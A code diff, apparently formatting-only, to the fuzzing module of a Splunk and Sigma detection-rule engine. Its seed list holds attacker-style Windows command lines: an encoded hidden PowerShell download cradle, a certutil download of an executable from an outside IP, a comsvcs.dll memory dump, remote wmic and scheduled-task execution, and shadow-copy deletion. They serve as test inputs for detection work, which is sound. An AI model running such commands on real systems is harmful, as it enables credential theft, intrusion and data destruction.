@@ -18,7 +18,14 @@ import { walkLeaves } from "../predicate/build.ts"
 import { compile, evaluate } from "../predicate/compile.ts"
 import type { Event, EventValue, Predicate } from "../predicate/types.ts"
 import { readSigmaText } from "../formats/sigma/index.ts"
-import { analyzeSpl, compileRule, evaluateRule, macroMap, matchRule, type MacroLookup } from "../formats/splunk/spl/index.ts"
+import {
+  analyzeSpl,
+  compileRule,
+  evaluateRule,
+  macroMap,
+  matchRule,
+  type MacroLookup,
+} from "../formats/splunk/spl/index.ts"
 import { buildProcessEvents, EventParseError, parseEvents } from "../tester/event.ts"
 import { deriveFromProcess } from "../tester/powershell.ts"
 import { compileCatalog, matchEvent, type CompiledCatalog } from "../tester/match.ts"
@@ -47,7 +54,7 @@ export interface FuzzContext {
 const COMMAND_LINES = [
   'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"',
   "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
-  'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe',
+  "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
   "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
   'schtasks /create /s srv-02 /tn upd /tr "powershell -f C:\\ProgramData\\u.ps1" /sc onlogon',
   "vssadmin.exe delete shadows /all /quiet",
@@ -57,13 +64,38 @@ const COMMAND_LINES = [
 export function fuzzContext(catalog: Pick<Catalog, "detections" | "macros" | "dataSources">): FuzzContext {
   const searches = catalog.detections.filter((d) => d.format === "splunk").map((d) => d.search)
   const sigma = catalog.detections.filter((d) => d.format === "sigma").map((d) => d.raw)
-  const events: string[] = catalog.dataSources.flatMap((s) => (typeof s.exampleLog === "string" && s.exampleLog.startsWith("<") ? [s.exampleLog] : []))
+  const events: string[] = catalog.dataSources.flatMap((s) =>
+    typeof s.exampleLog === "string" && s.exampleLog.startsWith("<") ? [s.exampleLog] : [],
+  )
   for (const d of catalog.detections.slice(0, 20)) events.push(JSON.stringify(eventFor(d, () => 0.5)))
-  events.push('{"Event": {"System": {"EventID": 1, "Computer": "ws-1"}, "EventData": {"CommandLine": "cmd.exe /c dir", "Image": "C:\\\\Windows\\\\System32\\\\cmd.exe"}}}')
-  return { searches, macros: macroMap(catalog.macros), compiled: compileCatalog(catalog.detections), events, commandLines: COMMAND_LINES, sigma }
+  events.push(
+    '{"Event": {"System": {"EventID": 1, "Computer": "ws-1"}, "EventData": {"CommandLine": "cmd.exe /c dir", "Image": "C:\\\\Windows\\\\System32\\\\cmd.exe"}}}',
+  )
+  return {
+    searches,
+    macros: macroMap(catalog.macros),
+    compiled: compileCatalog(catalog.detections),
+    events,
+    commandLines: COMMAND_LINES,
+    sigma,
+  }
 }
 
-const VALUES = ["", "*", "cmd.exe", "C:\\Windows\\System32\\cmd.exe", "10.0.0.5", "::1", "é".repeat(3), "a".repeat(3000), "\u0000", "😀", "-1", "1e309", "NaN"]
+const VALUES = [
+  "",
+  "*",
+  "cmd.exe",
+  "C:\\Windows\\System32\\cmd.exe",
+  "10.0.0.5",
+  "::1",
+  "é".repeat(3),
+  "a".repeat(3000),
+  "\u0000",
+  "😀",
+  "-1",
+  "1e309",
+  "NaN",
+]
 
 /** An event over the fields a rule reads, with values near its own (mutated) or hostile. */
 export function eventFor(d: { analysis?: { predicate: Predicate } }, r: Rng, seeds: readonly string[] = VALUES): Event {
@@ -72,7 +104,16 @@ export function eventFor(d: { analysis?: { predicate: Predicate } }, r: Rng, see
   if (!p) return event
   walkLeaves(p, (leaf) => {
     const field = "field" in leaf ? leaf.field : "_raw"
-    const own = "value" in leaf ? leaf.value : "values" in leaf ? (leaf.values[0] ?? "") : "pattern" in leaf ? leaf.pattern : "cidr" in leaf ? leaf.cidr : ""
+    const own =
+      "value" in leaf
+        ? leaf.value
+        : "values" in leaf
+          ? (leaf.values[0] ?? "")
+          : "pattern" in leaf
+            ? leaf.pattern
+            : "cidr" in leaf
+              ? leaf.cidr
+              : ""
     const v = (): EventValue => {
       const roll = r()
       if (roll < 0.4) return own.replace(/\*/g, "x")
@@ -122,7 +163,9 @@ export function testerTarget(ctx: FuzzContext): FuzzTarget {
       let events: Event[] | undefined
       try {
         if (r() < 0.3) {
-          matchEvent(ctx.compiled, { built: buildProcessEvents({ cmd: input, parent: r() < 0.5 ? input.slice(0, 40) : undefined }) })
+          matchEvent(ctx.compiled, {
+            built: buildProcessEvents({ cmd: input, parent: r() < 0.5 ? input.slice(0, 40) : undefined }),
+          })
           return
         }
         events = parseEvents(input)
@@ -157,7 +200,8 @@ export function readersTarget(ctx: FuzzContext): FuzzTarget {
         parseEvents(input)
       } catch (e) {
         if (!(e instanceof EventParseError)) throw e
-        if (e.position === undefined || e.line === undefined) throw new Error(`a parse error without a position: ${e.message}`)
+        if (e.position === undefined || e.line === undefined)
+          throw new Error(`a parse error without a position: ${e.message}`)
       }
     },
   }
@@ -171,7 +215,8 @@ export function sigmaTarget(ctx: FuzzContext): FuzzTarget {
     run: (input, r) => {
       for (const { rule } of readSigmaText("fuzz.yml", input).rules) {
         const compiled = compile(JSON.parse(JSON.stringify(rule.analysis.predicate)) as Predicate)
-        for (let i = 0; i < 3; i++) evaluate(compiled, eventFor(rule, r), { metadata: pick(r, ["unknown", "assume", "strict"] as const) })
+        for (let i = 0; i < 3; i++)
+          evaluate(compiled, eventFor(rule, r), { metadata: pick(r, ["unknown", "assume", "strict"] as const) })
       }
     },
   }
@@ -179,5 +224,7 @@ export function sigmaTarget(ctx: FuzzContext): FuzzTarget {
 
 /** Every target available in this build of the engine (a format without seeds is left out). */
 export function allTargets(ctx: FuzzContext): FuzzTarget[] {
-  return [splTarget(ctx), predicateTarget(ctx), testerTarget(ctx), readersTarget(ctx), sigmaTarget(ctx)].filter((t) => t.seeds.length > 0)
+  return [splTarget(ctx), predicateTarget(ctx), testerTarget(ctx), readersTarget(ctx), sigmaTarget(ctx)].filter(
+    (t) => t.seeds.length > 0,
+  )
 }
